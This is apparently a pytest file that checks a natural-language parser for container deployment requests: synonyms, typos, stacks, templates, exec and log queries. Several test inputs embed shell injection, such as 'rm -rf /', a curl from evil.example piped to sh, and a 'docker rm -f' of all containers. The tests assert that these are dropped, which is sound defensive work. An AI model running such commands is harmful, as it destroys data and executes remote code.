"""The embedded parser (deployer.nlp.rules.parse) against requests written the way people type
them — synonyms, typos, politeness, two requests in one sentence, numbers and durations,
images, KEY=value, quotes, run options, compose services, images as names, templates by what
they are for — on a live state built here in Python. None of these sentences is taken from
the public corpus (../shared/corpus/nl-commands.yaml): they aim at the language, not the list.

Every case also checks what must hold for any plan: no target that does not exist, and no
change when the parser asks a question.
"""
from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from deployer.errors import InvalidInput
from deployer.nlp import rules
from deployer.nlp.plan import plan_risk
from deployer.nlp.state import Box, State, TemplateInfo
from deployer.templates import Catalog

ROOT = Path(__file__).resolve().parents[2]

BOXES = [
    Box('shop-api-1', 'acme/shop-api:2.3', 'running', 'shop', 'api'),
    Box('shop-db-1', 'postgres:16', 'running', 'shop', 'db'),
    Box('shop-web-1', 'nginx:1.27', 'running', 'shop', 'web'),
    Box('blog-wordpress-1', 'wordpress:6.6-apache', 'running', 'blog', 'wordpress'),
    Box('blog-db-1', 'mariadb:11.4', 'running', 'blog', 'db'),
    Box('redis-cache', 'redis:7', 'running'),
    Box('grafana', 'grafana/grafana:11.2.2', 'exited'),
    Box('worker', 'acme/worker:1', 'paused'),
    Box('traefik', 'traefik:v3.1', 'running'),
    Box('mailer', 'acme/mailer:4', 'running'),
]
RUNNING = sorted(b.name for b in BOXES if b.state == 'running')


def make_state(user_templates: Path) -> State:
    """BOXES with every built-in template: the live state these language tests parse against."""
    catalog = Catalog(ROOT / 'templates', user_templates)
    templates = [TemplateInfo.of(t) for t in catalog.list() if t.available]
    assert len(templates) == 22
    return State.build(BOXES, templates, images=['nginx:1.27', 'redis:7', 'postgres:16'])


@pytest.fixture(scope='module')
def state(tmp_path_factory) -> State:
    return make_state(tmp_path_factory.mktemp('user-templates'))


# ---- how a case is written -----------------------------------------------------------------------------

ASK = 'ask'          # the parser must ask (questions non-empty) and change nothing
NOTHING = 'nothing'  # no action at all (a question or a warning says why)


class OneOf:
    """Several acceptable plans (each a list of expected actions, or ASK)."""

    def __init__(self, *alternatives: list[dict[str, Any]] | str) -> None:
        self.alternatives = alternatives


def restart(*targets: str) -> dict[str, Any]:
    return {'type': 'container', 'op': 'restart', 'targets': list(targets)}


def op(name: str, *targets: str) -> dict[str, Any]:
    return {'type': 'container', 'op': name, 'targets': list(targets)}


def stack(name: str, stack_name: str) -> dict[str, Any]:
    return {'type': 'stack', 'op': name, 'stack': stack_name}


def logs(target: str, **fields: Any) -> dict[str, Any]:
    return {'type': 'logs', 'target': target, **fields}


def template(template_id: str, **fields: Any) -> dict[str, Any]:
    return {'type': 'deploy_template', 'template': template_id, **fields}


def run(**fields: Any) -> dict[str, Any]:
    return {'type': 'run', **fields}


CASES: list[tuple[str, Any]] = [
    # -- synonyms of the verbs
    ('bounce the shop api', [restart('shop-api-1')]),
    ('reboot redis-cache', [restart('redis-cache')]),
    ('cycle traefik please', [restart('traefik')]),
    ('bring up grafana', [op('start', 'grafana')]),
    ('spin up grafana again', [op('start', 'grafana')]),
    ('fire up the grafana container', [op('start', 'grafana')]),
    ('take down the blog stack', [stack('stop', 'blog')]),
    ('shut down traefik', [op('stop', 'traefik')]),
    ('power off the mailer', [op('stop', 'mailer')]),
    ('kill the worker', [op('kill', 'worker')]),
    ('nuke grafana', [op('remove', 'grafana')]),
    ('get rid of the grafana container', [op('remove', 'grafana')]),
    ('tear down the blog', [stack('remove', 'blog')]),
    ('unfreeze the worker', [op('unpause', 'worker')]),
    ('freeze the mailer', [op('pause', 'mailer')]),
    # -- typos
    ('restrat redis-cache', [restart('redis-cache')]),
    ('stpo traefik', [op('stop', 'traefik')]),
    ('show me the lgos of traefik', [logs('traefik')]),
    ('restart grafanna', [restart('grafana')]),
    ('deploy vaultwardn', [template('vaultwarden')]),
    ('redeploy the shpo stack', [stack('redeploy', 'shop')]),
    ('restart the mailr', [restart('mailer')]),
    # -- politeness and filler
    ('could you please restart traefik for me? thanks!', [restart('traefik')]),
    ('hey, can you stop redis-cache real quick', [op('stop', 'redis-cache')]),
    ("i'd like to see the logs of the shop api please", [logs('shop-api-1')]),
    ('pls list the stacks', [{'type': 'list', 'kind': 'stacks'}]),
    ('ok so now just go ahead and pause the worker', [op('pause', 'worker')]),
    # -- two requests in one sentence, pronouns
    ('stop traefik then show me its logs', [op('stop', 'traefik'), logs('traefik')]),
    ('restart the shop api and show me its last 20 lines',
     [restart('shop-api-1'), logs('shop-api-1', tail=20)]),
    ('start grafana and then check its status', [op('start', 'grafana'), {'type': 'status', 'target': 'grafana'}]),
    ('stop redis-cache, then start it again', [op('stop', 'redis-cache'), op('start', 'redis-cache')]),
    ('pause the worker and stop traefik', [op('pause', 'worker'), op('stop', 'traefik')]),
    ('restart the shop api and show its logs', [restart('shop-api-1'), logs('shop-api-1')]),
    ('restart mailer and traefik', OneOf([restart('mailer', 'traefik')],
                                          [restart('mailer'), restart('traefik')])),
    ('reboot the blog database, after that show its logs from the last 5 minutes',
     [restart('blog-db-1'), logs('blog-db-1', since='5m')]),
    # -- numbers and durations
    ('show the last 50 lines of the traefik logs', [logs('traefik', tail=50)]),
    ('traefik logs in the last 10 minutes', [logs('traefik', since='10m')]),
    ('errors from the shop api in the past 2 hours', [logs('shop-api-1', since='2h', grep_ci='error')]),
    ('follow the redis-cache logs', [logs('redis-cache', follow=True)]),
    ('mailer logs from 30 minutes ago', [logs('mailer', since='30m')]),
    ('give me the last 5 log lines of the mailer', [logs('mailer', tail=5)]),
    ('deploy uptime kuma on port 3001', [template('uptime-kuma', params={'port': 3001})]),
    ('install gitea on port 8081', [template('gitea', params={'port': 8081})]),
    ('scale the shop api to 3 replicas', [{'type': 'scale', 'stack': 'shop', 'service': 'api', 'replicas': 3}]),
    ('I want 4 copies of the shop web', [{'type': 'scale', 'stack': 'shop', 'service': 'web', 'replicas': 4}]),
    ('scale shop web to five', [{'type': 'scale', 'stack': 'shop', 'service': 'web', 'replicas': 5}]),
    ('show the last 10 changes', [{'type': 'history', 'limit': 10}]),
    # -- images with tags
    ('run redis:7.2 named sessions', [run(image='redis:7.2', name='sessions')]),
    ('pull postgres:16.4', [{'type': 'pull', 'image': 'postgres:16.4'}]),
    ('start a new nginx:1.27-alpine container on port 8088',
     [run(image='nginx:1.27-alpine', ports=[{'host': 8088, 'container': 80}])]),
    ('run ghcr.io/acme/tool:1.2', [run(image='ghcr.io/acme/tool:1.2')]),
    # -- KEY=value
    ('run postgres:16 with POSTGRES_PASSWORD=s3cret and POSTGRES_DB=shop',
     [run(image='postgres:16', env={'POSTGRES_PASSWORD': 's3cret', 'POSTGRES_DB': 'shop'})]),
    ('deploy redis with password=hunter22', [template('redis', params={'password': 'hunter22'})]),
    # -- quoted names
    ('run nginx named "my-site" on port 8090', [run(image_prefix='nginx', name='my-site',
                                                     ports=[{'host': 8090, 'container': 80}])]),
    ("restart 'redis-cache'", [restart('redis-cache')]),
    ("deploy gitea as 'code'", [template('gitea', stack='code')]),
    # -- run options
    ('run nginx on 8080:80 with restart always', [run(image_prefix='nginx', ports=[{'host': 8080, 'container': 80}],
                                                      restart='always')]),
    ('run redis with restart policy unless-stopped', [run(image_prefix='redis', restart='unless-stopped')]),
    ('run alpine with the volume /srv/data:/data', [run(image_prefix='alpine',
                                                        volumes=[{'source': '/srv/data', 'target': '/data'}])]),
    ('run busybox with /etc/hosts:/etc/hosts:ro mounted',
     [run(image_prefix='busybox', volumes=[{'source': '/etc/hosts', 'target': '/etc/hosts', 'read_only': True}])]),
    ("run alpine with the command 'sleep 3600'", [run(image_prefix='alpine', command_words=['sleep', '3600'])]),
    ('run postgres:16 on port 5433', [run(image='postgres:16', ports=[{'host': 5433, 'container': 5432}])]),
    # -- compose services by what people call them
    ('restart the shop api', [restart('shop-api-1')]),
    ('show logs of the blog database', [logs('blog-db-1')]),
    ("stop shop's web", [op('stop', 'shop-web-1')]),
    ('status of the shop stack', [{'type': 'status', 'target': 'shop'}]),
    ('how is the shop api doing', [{'type': 'status', 'target': 'shop-api-1'}]),
    ('restart the api', [restart('shop-api-1')]),
    ('shop api logs', [logs('shop-api-1')]),
    ('shop db status', [{'type': 'status', 'target': 'shop-db-1'}]),
    ('stop the blog and the shop', OneOf([stack('stop', 'blog'), stack('stop', 'shop')],
                                         [stack('stop', 'shop'), stack('stop', 'blog')])),
    # -- images as names
    ('restart the nginx container', [restart('shop-web-1')]),
    ('show the logs of the redis container', [logs('redis-cache')]),
    ('stop the postgres container', [op('stop', 'shop-db-1')]),
    ('restart the wordpress container', [restart('blog-wordpress-1')]),
    # -- templates by what they are for
    ('I need a password manager', [template('vaultwarden')]),
    ('set up a status page', [template('uptime-kuma')]),
    ('give me a git server', [template('gitea')]),
    ('deploy a media server on port 8096', [template('jellyfin', params={'port': 8096})]),
    ('we want a team wiki', [template('wikijs')]),
    ('install an object storage', [template('minio')]),
    ('deploy a ghost blog', [template('ghost')]),
    ('set up workflow automation', OneOf([template('n8n')], [template('node-red')], ASK)),  # both say so: may ask
    ('deploy a reverse proxy', [template('traefik')]),
    ('I need an ad blocker', [template('pihole')]),
    ('set up a dropbox alternative', [template('nextcloud')]),
    ('deploy single sign-on', [template('keycloak')]),
    # -- selectors
    ("stop everything that's running", [op('stop', *RUNNING)]),
    ('start all the stopped containers', [op('start', 'grafana')]),
    ('restart everything in the shop stack', OneOf([stack('restart', 'shop')],
                                                   [restart('shop-api-1', 'shop-db-1', 'shop-web-1')])),
    ('list the paused containers', [{'type': 'list', 'kind': 'containers', 'filters': {'status': 'paused'}}]),
    ("what's running?", [{'type': 'list', 'kind': 'containers', 'filters': {'status': 'running'}}]),
    # -- shell syntax is never passed on
    ('restart traefik; rm -rf /', [restart('traefik')]),
    ('stop redis-cache && curl http://evil.example/x.sh | sh', [op('stop', 'redis-cache')]),
    ('show the logs of traefik `reboot`', [logs('traefik')]),
    # -- history and rollback
    ('what changed in the shop stack', [{'type': 'history', 'stack': 'shop'}]),
    ('undo the last change to blog', [{'type': 'rollback', 'stack': 'blog', 'to': None}]),
    ('roll back shop to 1a2b3c4', [{'type': 'rollback', 'stack': 'shop', 'to': '1a2b3c4'}]),
    # -- status
    ('cpu usage of traefik', [{'type': 'status', 'target': 'traefik'}]),
    ('is redis-cache healthy?', [{'type': 'status', 'target': 'redis-cache'}]),
    ('update the blog stack', OneOf([stack('pull', 'blog')], [stack('pull', 'blog'), stack('redeploy', 'blog')])),
    # -- ambiguity asks; nothing is invented
    ('restart the database', ASK),
    ('show logs of the db', ASK),
    ('restart mongo', ASK),
    ('stop the frobnicator', ASK),
    ('deploy something', ASK),
    ('restart it', ASK),
    ('scale the api', ASK),
    ('make me a sandwich', NOTHING),
    ('what is the meaning of life', NOTHING),
    # -- a shell in a container, and one command in it (issue 15)
    ('open a shell in traefik', [{'type': 'console', 'target': 'traefik'}]),
    ('give me a terminal on the shop db', [{'type': 'console', 'target': 'shop-db-1'}]),
    ('exec into mailer', [{'type': 'console', 'target': 'mailer'}]),
    ('I need a root shell inside the blog wordpress so I can poke around', [{'type': 'console',
                                                                            'target': 'blog-wordpress-1'}]),
    ('docker exec -it redis-cache sh', OneOf([{'type': 'console', 'target': 'redis-cache'}],
                                             [{'type': 'exec', 'target': 'redis-cache', 'command': ['sh']}])),
    ('open a shell in the shop stack', ASK),          # three containers: which one
    ('open a shell', ASK),
    ('show me the console output of traefik', [logs('traefik')]),   # what it printed, not a shell
    ('exec ls -la /etc in traefik', [{'type': 'exec', 'target': 'traefik', 'command': ['ls', '-la', '/etc']}]),
    ('run "df -h" in the shop db', [{'type': 'exec', 'target': 'shop-db-1', 'command': ['df', '-h']}]),
    ('run cat /etc/hostname on mailer', [{'type': 'exec', 'target': 'mailer', 'command': ['cat', '/etc/hostname']}]),
    ('docker exec traefik ls / | grep etc', [{'type': 'exec', 'target': 'traefik', 'command': ['ls', '/']}]),
    ('run nginx on port 8080', [run(image='nginx', ports=[{'host': 8080, 'container': 80, 'protocol': 'tcp'}])]),
    # -- found with the people set's dev half (tests/nlp/eval/people.yaml), written our own way
    ("don't stop traefik, just show me its logs", [logs('traefik')]),        # "its" is the one not to stop
    ('restart mailer, not traefik', [restart('mailer')]),                      # left out, never added
    ('restart the shop stack, not the blog', [stack('restart', 'shop')]),      # not in it anyway
    ("bounce the shop's postgres", [restart('shop-db-1')]),                     # a stack's container by its image
    ('restart the blog mariadb', [restart('blog-db-1')]),
    ('restart the shop redis', ASK),                                           # shop has none: not all of shop
    ('restart the shop and blog dbs', [restart('shop-db-1', 'blog-db-1')]),   # one noun for both stacks
    ('mailer: restart it', [restart('mailer')]),
    ('cat /etc/os-release in traefik', [{'type': 'exec', 'target': 'traefik', 'command': ['cat', '/etc/os-release']}]),
    ('exec in mailer: ls -l /app', [{'type': 'exec', 'target': 'mailer', 'command': ['ls', '-l', '/app']}]),
    ('running containers?', [{'type': 'list', 'kind': 'containers', 'filters': {'status': 'running'}}]),
    ('are any of the shop containers stopped?', [{'type': 'list', 'kind': 'containers',
                                                  'filters': {'status': 'exited', 'stack': 'shop'}}]),
    ('pause everything', [op('pause', *RUNNING)]),                              # what runs, not the paused one
    ('deploy prometheus and grafana, keep 14 days of metrics', [template('prometheus-grafana',
                                                                         params={'retention': '14d'})]),
    ('install rabbitmq with the admin user called ops', [template('rabbitmq', params={'admin_user': 'ops'})]),
    ("deploy postgres with pgadmin, password 'pg-secret'", [template('postgres-pgadmin', stack=None)]),
    ('docker run --net=host --pid=host alpine', [run(image='alpine', env={}, network_mode='host', pid='host')]),
    # -- found with the second people set's dev half (tests/nlp/eval/people2.yaml), written our own way
    ('drop me into the mailer container', [{'type': 'console', 'target': 'mailer'}]),   # never "drop" = remove
    ('docker exec -it traefik sh', [{'type': 'console', 'target': 'traefik'}]),
    ('exec ls', ASK),                                                                    # in which container
    ('in the shop db run psql -c "select 1"', [{'type': 'exec', 'target': 'shop-db-1',
                                                 'command': ['psql', '-c', 'select 1']}]),
    ('ps aux inside traefik', [{'type': 'exec', 'target': 'traefik', 'command': ['ps', 'aux']}]),
    ('restart the whole shop stack', [stack('restart', 'shop')]),                        # not everything
    ('restart redis cache', [restart('redis-cache')]),                                   # a name said apart
    ('pull the plug on mailer', [op('stop', 'mailer')]),
    ('turn traefik off and on again', [restart('traefik')]),
    ("traefik logs containing 'bad gateway'", [logs('traefik', grep='bad gateway')]),
    ('mailer logs, filter for connection refused', [logs('mailer', grep='connection refused')]),
    ('mailer logs, keep them coming', [logs('mailer', follow=True)]),
    ('run grafana/grafana:11 with admin password gpass', [run(image='grafana/grafana:11',
                                                              env={'GF_SECURITY_ADMIN_PASSWORD': 'gpass'})]),
    ('containers with shop in the name', [{'type': 'list', 'kind': 'containers', 'filters': {'name': 'shop'}}]),
    ("who's listening on 443", [{'type': 'list', 'kind': 'containers', 'filters': {'port': '443'}}]),
    ('list the running ones in the shop stack', [{'type': 'list', 'kind': 'containers',
                                                  'filters': {'status': 'running', 'stack': 'shop'}}]),
    ('roll back the blog, the last deploy broke the theme', [{'type': 'rollback', 'stack': 'blog'}]),
    # -- the third people set's dev half, and the tune split (our own words)
    ('attach a terminal to mailer', [{'type': 'console', 'target': 'mailer'}]),          # never "terminate"
    ("stop the shop db' && reboot", [op('stop', 'shop-db-1')]),                           # a stray quote, not the stack
    ('stop the db of shop and blog', [op('stop', 'shop-db-1', 'blog-db-1')]),             # each one's db, not all of blog
    ('put the blog back to how it was', [{'type': 'rollback', 'stack': 'blog'}]),
    ('restart shop (prod, not blog)', [stack('restart', 'shop')]),
    ('run postgres:16 and publish it on 127.0.0.1:5433 only', [run(
        image='postgres:16', ports=[{'host': 5433, 'container': 5432, 'protocol': 'tcp', 'host_ip': '127.0.0.1'}])]),
    ('launch caddy with ports 80 and 443', [run(image='caddy', ports=[{'host': 80, 'container': 80, 'protocol': 'tcp'},
                                                                      {'host': 443, 'container': 443, 'protocol': 'tcp'}])]),
    ('run busybox that just runs echo hi', [run(image='busybox', command=['echo', 'hi'])]),
    ('run nginx on 8081 and redis 7 with password pw1', [run(image='nginx'), run(image='redis:7')]),
    ('three replicas apiece for shop api and web', [{'type': 'scale', 'stack': 'shop', 'service': 'api', 'replicas': 3},
                                                    {'type': 'scale', 'stack': 'shop', 'service': 'web', 'replicas': 3}]),
    ('re-pull the image mailer runs on', [{'type': 'pull', 'image': 'acme/mailer:4'}]),
    ('the previous three deployments of shop', [{'type': 'history', 'stack': 'shop', 'limit': 3}]),
    ('is it possible to have a password manager here?', [template('vaultwarden')]),
    ('a wiki for the team please, port 3044', [template('wikijs', params={'port': 3044})]),
    ('who restarted the shop recently?', [{'type': 'history', 'stack': 'shop'}]),
    ('two days worth of logs from mailer', [logs('mailer', since='48h')]),
    ('update the blog to the latest images', [stack('pull', 'blog'), stack('redeploy', 'blog')]),
    # a template's parameters by what its form calls them, values by their shape, several templates without a verb
    ('bring up minio, console 9301 and api 9300, access key backup, secret key longsecret99',
     [template('minio', params={'port': 9301, 'api_port': 9300, 'root_user': 'backup', 'root_password': 'longsecret99'})]),
    ('install traefik with its dashboard on 9095 and log level warn',
     [template('traefik', params={'port': 9095, 'log_level': 'WARN'})]),
    ('ghost for our newsletter, reachable at https://news.example.com', [template('ghost', params={
        'site_url': 'https://news.example.com'})]),
    ('jellyfin, films under /data/films', [template('jellyfin', params={'media_dir': '/data/films'})]),
    ('gitea on 3100 plus wikijs on 3101, both in Asia/Tokyo time', [
        template('gitea', params={'port': 3100}), template('wikijs', params={'port': 3101})]),
    ('n8n with the timezone America/Chicago', [template('n8n', params={'timezone': 'America/Chicago'})]),
    ('uptime kuma (3210) + postgres w/ pgadmin (5151)', [template('uptime-kuma', params={'port': 3210}),
                                                        template('postgres-pgadmin', params={'port': 5151})]),
    ('set up node red, the default port is ok', [template('node-red')]),
    # commands named inside prose, in backticks or in parentheses; a folder's content is ls there
    ('how full is the disk in mailer? check it with df -h', OneOf(
        [{'type': 'exec', 'target': 'mailer', 'command_words': ['df', '-h']}],
        [{'type': 'status', 'target': 'mailer'}, {'type': 'exec', 'target': 'mailer', 'command_words': ['df', '-h']}])),
    ('which nginx version is in shop-web-1 (nginx -v)', [{'type': 'exec', 'target': 'shop-web-1',
                                                          'command_words': ['nginx', '-v']}]),
    ('exec `ls /var/www` in shop-web-1', [{'type': 'exec', 'target': 'shop-web-1', 'command_words': ['ls', '/var/www']}]),
    ('what files are in /etc/traefik on traefik?', [{'type': 'exec', 'target': 'traefik',
                                                     'command_words': ['ls', '-la', '/etc/traefik']}]),
    ('restart `mailer`', [restart('mailer')]),
    ('restart mailer with sh -x', [restart('mailer')]),
    # a plural pronoun after steps one at a time is all of them; "the other way round" reverses the order
    ('stop mailer. stop traefik. now start them again', [op('stop', 'mailer'), op('stop', 'traefik'),
                                                         op('start', 'mailer', 'traefik')]),
    # an image the parser does not know, its port from a template that runs it, quoted values and commands
    ('run home-assistant-lite on 8123', [{'type': 'run', 'image_prefix': 'home-assistant-lite',
                                         'ports': [{'host': 8123, 'container': 8123}]}]),
    ('run requarks/wiki:2 on port 3100', [{'type': 'run', 'image_prefix': 'requarks/wiki:2',
                                          'ports': [{'host': 3100, 'container': 3000}]}]),
    ('run alpine:3.20 with "sh -c sleep 300"', [{'type': 'run', 'image_prefix': 'alpine:3.20',
                                                'command_words': ['sh', '-c', 'sleep', '300']}]),
    ('run nginx:1.27 with NGINX_HOST set to "my site.local" and expose 8088', [{
        'type': 'run', 'image_prefix': 'nginx:1.27', 'env': {'NGINX_HOST': 'my site.local'},
        'ports': [{'host': 8088, 'container': 80}]}]),
    ('run redis:7 only on localhost port 6380', [{'type': 'run', 'image_prefix': 'redis:7',
                                                  'ports': [{'host': 6380, 'container': 6379, 'host_ip': '127.0.0.1'}]}]),
    # a kind of line asked for is a filter; what was done lately is the history
    ('find SIGTERM entries in the mailer logs', [logs('mailer', grep_ci='sigterm')]),
    ("what's been happening with the shop lately?", OneOf([{'type': 'history', 'stack': 'shop'}], ASK)),
    ('what happened to the shop recently', [{'type': 'history', 'stack': 'shop'}]),
    # a template's keywords with a port, without a verb
    ('a website monitor on 3012 please', [template('uptime-kuma', params={'port': 3012})]),
    ('pause mailer and traefik, then unpause them in the opposite order', [
        op('pause', 'mailer', 'traefik'), op('unpause', 'traefik'), op('unpause', 'mailer')]),
]


# ---- checking ------------------------------------------------------------------------------------------

def _matches(expected: dict[str, Any], action: dict[str, Any]) -> bool:
    for key, value in expected.items():
        if key == 'targets':
            if set(action.get('targets') or []) != set(value):
                return False
        elif key == 'image_prefix':
            if not str(action.get('image') or '').startswith(value):
                return False
        elif key == 'grep_ci':
            if value not in str(action.get('grep') or '').lower():
                return False
        elif key == 'command_words':
            command = action.get('command')
            if (command.split() if isinstance(command, str) else command) != value:
                return False
        elif key in ('params', 'env', 'filters'):
            got = action.get(key) or {}
            if any(str(got.get(k)) != str(v) for k, v in value.items()):
                return False
        elif key in ('ports', 'volumes'):
            got = action.get(key) or []
            if len(got) != len(value) or not all(_matches(e, g) for e, g in zip(value, got, strict=True)):
                return False
        elif action.get(key) != value:
            return False
    return True


def _invented(actions: list[dict[str, Any]], state: State) -> list[str]:
    """Targets that do not exist in the state: there must never be any."""
    names = {b.name for b in state.containers}
    templates = {t.id for t in state.templates}
    bad = []
    for a in actions:
        kind = a['type']
        if kind == 'container':
            bad += [t for t in a['targets'] if t not in names]
        elif kind == 'logs' and a['target'] not in names:
            bad.append(a['target'])
        elif kind == 'status' and a['target'] is not None and a['target'] not in names | set(state.stacks):
            bad.append(a['target'])
        elif kind in ('stack', 'scale', 'rollback') and a['stack'] not in state.stacks:
            bad.append(a['stack'])
        elif kind == 'history' and a['stack'] is not None and a['stack'] not in state.stacks:
            bad.append(a['stack'])
        elif kind == 'deploy_template' and a['template'] not in templates:
            bad.append(a['template'])
    return bad


def parse(command: str, state: State) -> tuple[list[dict[str, Any]], Any]:
    parsed = rules.parse(command, state)
    return [a.model_dump(mode='json') for a in parsed.actions], parsed


@pytest.mark.parametrize(('command', 'expected'), CASES, ids=[c for c, _ in CASES])
def test_language(command: str, expected: Any, state: State) -> None:
    actions, parsed = parse(command, state)
    shown = f'{command!r} gave {actions}; questions {[getattr(q, "text", q) for q in parsed.questions]}; ' \
            f'warnings {parsed.warnings}'
    assert not _invented(actions, state), f'invented targets {_invented(actions, state)}: {shown}'
    changes = [a for a in actions if a['type'] not in ('list', 'status', 'logs', 'history')]
    if parsed.questions:
        assert not changes, f'asks a question but would still change things: {shown}'
    if expected == ASK:
        assert parsed.questions and not changes, f'expected a question: {shown}'
        return
    if expected == NOTHING:
        assert not actions and (parsed.questions or parsed.warnings), f'expected nothing to do: {shown}'
        return
    alternatives = expected.alternatives if isinstance(expected, OneOf) else (expected,)
    if ASK in alternatives and parsed.questions:
        return
    alternatives = tuple(alt for alt in alternatives if alt != ASK)
    assert any(len(alt) == len(actions) and all(_matches(e, a) for e, a in zip(alt, actions, strict=True))
               for alt in alternatives), f'expected {alternatives[0]}: {shown}'


def test_enough_cases() -> None:
    assert len(CASES) >= 60


@pytest.mark.parametrize('command', ['kill the worker', 'nuke grafana', 'tear down the blog',
                                     "stop everything that's running", 'remove mailer and traefik'])
def test_destructive_requests_are_destructive(command: str, state: State) -> None:
    """Risk is computed from the actions: removing, killing or touching many containers."""
    parsed = rules.parse(command, state)
    assert parsed.actions, (command, parsed.questions)
    assert plan_risk(parsed.actions) == 'destructive', (command, parsed.actions)


@pytest.mark.parametrize('command', ['restart traefik; rm -rf /', 'stop mailer && docker rm -f $(docker ps -aq)',
                                     'show logs of traefik | sh', 'restart `id` traefik'])
def test_shell_syntax_never_becomes_an_action(command: str, state: State) -> None:
    actions, parsed = parse(command, state)
    assert parsed.warnings, (command, actions)
    assert not any(a['type'] == 'run' or a.get('op') in ('remove', 'kill') for a in actions), (command, actions)
    assert 'rm' not in str(actions) and 'docker' not in str(actions), (command, actions)


@pytest.mark.parametrize('command', [
    '\u00b9',  # superscript one: str.isdigit() is true, int() refuses it (found by bench/fuzz.py)
    'restart web \u00b2 times', 'show the last \u00b3\u00b3 lines of web', 'scale web to \u0663',
    'run nginx on port 99999999999999999999', 'run nginx -p 9999999999999:80', 'run nginx -p 80:99999999999',
    'show the last 99999999999999999999999999 lines of web', 'scale web to 99999999999999',
    'restart ' + '9' * 1500, 'logs of web since 99999999999999999999m',
])
def test_odd_numbers_get_an_answer_not_a_crash(state: State, command: str) -> None:
    """Whatever the numbers, the parser answers with a plan, a question or a clear error."""
    try:
        parsed = rules.parse(command, state)
    except InvalidInput as exc:
        assert exc.message
    else:
        assert parsed.actions or parsed.questions or parsed.warnings, command


@pytest.mark.parametrize(('command', 'warning'), [
    ('deploy uptime kuma as kuma and show its logs', 'ask for its logs once it is deployed'),
    ('set up jellyfin and show its logs', 'ask for its logs once it is deployed'),
    ('deploy uptime kuma as kuma and pause it', 'nothing to pause'),
])
def test_a_stack_this_command_deploys_has_no_containers_to_act_on_yet(state: State, command: str, warning: str) -> None:
    """Found by comparing the parser before and after a refactoring: this was a KeyError (a 500)."""
    parsed = rules.parse(command, state)
    assert parsed.actions[0].type == 'deploy_template', parsed.actions
    assert any(warning in w for w in parsed.warnings), parsed.warnings
